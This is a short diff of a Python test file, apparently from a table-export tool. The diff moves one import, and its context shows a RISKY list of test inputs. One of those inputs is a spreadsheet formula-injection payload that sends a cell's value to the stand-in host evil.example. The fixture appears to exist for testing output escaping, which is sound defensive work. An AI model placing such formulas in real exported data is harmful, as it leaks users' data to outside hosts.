@@ -10,7 +10,7 @@ import pytest
 
 from selfpaced.cli.output import write_frame, write_rows
 from selfpaced.tables import read_table, text_rows
-from selfpaced.tables.formulas import guarded, unguarded
+from selfpaced.tables.text import guarded, unguarded
 
 RISKY = [
     '=HYPERLINK("http://evil.example?"&A1,"click")',
